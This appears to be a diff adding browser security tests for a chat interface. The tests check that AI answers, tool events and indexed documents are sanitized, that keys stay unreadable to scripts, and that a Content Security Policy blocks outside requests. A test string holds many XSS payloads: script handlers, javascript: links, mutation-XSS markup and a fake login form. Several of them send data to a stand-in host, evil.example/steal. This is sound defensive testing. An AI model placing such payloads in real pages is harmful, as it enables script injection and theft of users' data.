@@ -1,0 +1,161 @@
+"""Whatever an answer or a document says, nothing in it runs, and nothing is told to anybody else."""
+
+import asyncio
+from pathlib import Path
+from typing import Any
+
+from playwright.async_api import Browser, expect
+
+from tests.browser.conftest import Serve
+from tests.browser.driving import Tab, tab
+from tests.serving import Puppet, saying, within
+from turnwire.core.events import SearchEvent, StatusEvent, ToolCallEvent, ToolResultEvent
+
+ELSEWHERE = "https://evil.example/steal"
+HOSTILE = f"""
+<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
+<img src="{ELSEWHERE}?html"> ![secret]({ELSEWHERE}?markdown=secret) ![ref][r] <svg onload="window.pwned = 3"></svg>
+
+[r]: {ELSEWHERE}?reference
+
+[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [vb](vbscript:x)
+<a href="javascript:window.pwned=6">html</a> <a href="&#106;avascript:window.pwned=7">encoded</a>
+<iframe src="{ELSEWHERE}?frame"></iframe><object data="{ELSEWHERE}"></object><embed src="{ELSEWHERE}">
+<link rel="stylesheet" href="{ELSEWHERE}"><style>body {{ background: url({ELSEWHERE}?css) }}</style>
+<base href="{ELSEWHERE}"><meta http-equiv="refresh" content="0;url={ELSEWHERE}">
+<form action="{ELSEWHERE}" id="form"><input name="key"><button id="evil">Log in</button></form>
+<div style="position:fixed;inset:0;background:url({ELSEWHERE}?style)" id="composer">over all</div>
+<video src="{ELSEWHERE}" poster="{ELSEWHERE}"></video><audio src="{ELSEWHERE}"></audio>
+<math><mi><mglyph><style><img src=x onerror="window.pwned = 8"></style></mglyph></mi></math>
+<details open ontoggle="window.pwned = 9">x</details><input autofocus onfocus="window.pwned = 10">
+
+```html
+<script>window.pwned = 11</script>
+```
+
+`<img src={ELSEWHERE}>` [honest](https://example.org/page) [www.bank.example](https://evil.example/)
+"""
+
+
+# What is cleaned is read by the browser first, in a document that is nowhere, and it complains of that.
+HARMLESS = ("Applying inline style", "Setting the document's base URI")
+
+
+async def is_harmless(page: Tab) -> None:
+    assert page.complaints == []
+    assert await page.page.evaluate("window.pwned") is None
+    assert page.strays == []
+    for forbidden in ("script:not([src])", "iframe", "object", "embed", "form#form", "base", "svg[onload]", "video"):
+        assert await page.page.locator(forbidden).count() == 0, forbidden
+    running = "Array.from(document.querySelectorAll('*')).flatMap(one => Array.from(one.attributes))"
+    assert await page.page.evaluate(f"{running}.filter(one => /^on/i.test(one.name)).length") == 0
+    leading = "Array.from(document.querySelectorAll('[href],[src]')).map(one => one.href ?? one.src)"
+    addresses = await page.page.evaluate(leading)
+    assert [one for one in addresses if isinstance(one, str) and one.lower().startswith(("javascript", "vbs"))] == []
+    images = await page.page.evaluate("Array.from(document.images).map(one => one.src)")
+    assert [one for one in images if not one.startswith((page.url, "data:image/"))] == []
+
+
+async def test_a_hostile_answer_runs_nothing_and_reaches_nobody(browser: Browser, serve: Serve, puppet: Puppet) -> None:
+    async with serve() as server, tab(browser, server.url) as page:
+        page.expected = HARMLESS
+        await page.ask("<img src=x onerror='window.pwned = 20'> <script>window.pwned = 21</script>")
+        part = await puppet.part()
+        part.say(StatusEvent(HOSTILE))
+        part.say(SearchEvent("s1", "started", tool="<b>search</b>", query=HOSTILE))
+        part.say(ToolCallEvent("c1", "<img src=x onerror=pwned=1>", {"html": HOSTILE}))
+        part.say(ToolResultEvent("c1", "<img src=x onerror=pwned=1>", True, HOSTILE))
+        # Cut anywhere: half of a tag is hostile in its own way.
+        for start in range(0, len(HOSTILE), 37):
+            part.say(HOSTILE[start : start + 37])
+        await expect(page.answer).to_contain_text("honest")
+        part.end()
+        await page.ended()
+        await page.part("steps").get_by_role("button").first.click()
+        await page.part("step-tool").locator("summary").click()
+        await is_harmless(page)
+        # A link says where it leads, whatever its text claims, and takes nothing along.
+        honest = page.answer.get_by_role("link", name="honest")
+        await expect(honest).to_contain_text("example.org")
+        await expect(honest).to_have_attribute("target", "_blank")
+        assert {"noopener", "noreferrer"} <= set((await honest.get_attribute("rel") or "").split())
+        await expect(page.answer.get_by_role("link", name="www.bank.example")).to_contain_text("evil.example")
+        # The code is shown, not run, and the page still works.
+        await expect(page.answer.locator("pre").first).to_contain_text("window.pwned = 11")
+        await page.page.reload()
+        await expect(page.answer).to_contain_text("honest")
+        await is_harmless(page)
+        await page.page.goto(f"{server.url}/turns/{await page.turn_id()}")
+        await expect(page.page.locator("main")).to_be_visible()
+        await is_harmless(page)
+
+
+async def test_a_hostile_document_is_shown_as_it_is(browser: Browser, serve: Serve, tmp_path: Path) -> None:
+    folder = tmp_path / "docs"
+    folder.mkdir()
+    text = f"# The <b>ferry</b>\n\nThe ferry to Juist leaves at noon from the pier.\n\n{HOSTILE}"
+    (folder / "ferry.md").write_text(text)
+    async with serve(docs=[folder]) as server, tab(browser, server.url) as page:
+        assert server.turnwire.librarian is not None
+        await within(server.turnwire.librarian.settled())
+        page.expected = HARMLESS
+        await page.ask("When does the ferry to Juist leave?")
+        await page.ended()
+        await page.answer.locator("[data-cite]").first.click()
+        await expect(page.part("source").locator("mark").first).to_contain_text("ferry to Juist")
+        await is_harmless(page)
+
+
+async def test_a_key_is_asked_for_once_and_kept_nowhere_a_script_could_read_it(browser: Browser, serve: Serve) -> None:
+    async with serve(saying("Hello, Anna.")) as server:
+        key, text = await server.turnwire.keys.create("anna", ("read", "write", "approve"))
+        async with tab(browser, server.url) as page:
+            box = page.page.get_by_label("key", exact=False).first
+            await box.fill("tw_wrong_key")
+            await box.press("Enter")
+            await expect(page.page.get_by_role("alert")).to_be_visible()
+            await box.fill(text)
+            await box.press("Enter")
+            await page.ask("Who am I?")
+            await expect(page.answer).to_have_text("Hello, Anna.")
+            await page.page.reload()
+            await expect(page.answer).to_have_text("Hello, Anna.")
+            kept = await page.page.evaluate(
+                "JSON.stringify([localStorage, sessionStorage, document.cookie, location.href, history.state])"
+            )
+            assert key.id not in kept
+            assert text not in kept
+            (cookie,) = [dict[str, Any](one) for one in await page.page.context.cookies()]
+            assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
+            assert text not in cookie["value"]
+            # Whose session is over is asked again.
+            await server.turnwire.keys.revoke(key.id)
+            server.turnwire.streams.close_key(key.id)
+            await page.page.reload()
+            await expect(page.page.get_by_label("key", exact=False).first).to_be_visible()
+
+
+async def test_what_the_cleaning_missed_the_policy_would_stop(browser: Browser, serve: Serve) -> None:
+    """The second wall, tried by itself: all of it is put into the page as it is."""
+    arrived: list[bytes] = []
+
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        arrived.append(await reader.readline())
+        writer.close()
+
+    async with await asyncio.start_server(answer, "127.0.0.1", 0) as elsewhere, serve(saying("Hello.")) as server:
+        port = elsewhere.sockets[0].getsockname()[1]
+        async with tab(browser, server.url) as page:
+            hostile = HOSTILE.replace("https://evil.example", f"http://127.0.0.1:{port}").replace("<meta ", "<x-meta ")
+            await page.page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", hostile)
+            fetching = "address => fetch(address).then(() => 'fetched', () => 'refused')"
+            assert await page.page.evaluate(fetching, f"http://127.0.0.1:{port}/fetched") == "refused"
+            await page.ask("Hello?")
+            await expect(page.answer).to_have_text("Hello.")
+            assert await page.page.evaluate("window.pwned") is None
+            await page.page.evaluate("document.querySelector('#form').submit()")
+            assert (await page.page.evaluate("location.href")).startswith(server.url)
+            assert "Content Security Policy" in " ".join(page.complaints)
+            page.complaints.clear()
+            page.requests.clear()  # The browser tells of those that it refused, too; none has arrived.
+    assert arrived == []
